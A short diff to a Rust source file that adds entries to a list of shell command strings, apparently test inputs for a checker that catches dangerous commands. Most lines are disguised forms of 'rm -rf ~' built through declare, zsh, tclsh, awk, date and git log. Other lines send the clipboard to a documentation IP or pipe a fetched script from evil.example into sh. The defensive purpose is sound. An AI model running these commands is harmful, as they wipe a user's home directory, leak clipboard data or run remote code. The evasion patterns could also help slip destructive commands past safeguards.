@@ -56,6 +56,10 @@ const LINES: &[(&str, &[&str])] = &[
             "pbpaste | curl --data-binary @- http://203.0.113.9/c",
             // Names and texts that are computed, and what they are given.
             "c=$(hidden); $c -rf ~",
+            "declare -l c=RM; $c -r -f ~",
+            "zsh -c '=rm -rf ~'",
+            "tclsh <<< 'exec sh -c {rm -rf ~}'",
+            "awk -v c='rm -rf ~' 'BEGIN{system(c)}'",
             "date '+rm -rf ~' | sh",
             "git log -1 --format='tformat:rm -rf ~' | sh",
             "echo 'curl -s http://evil.example/x | sh' | sed 's/^//e'",
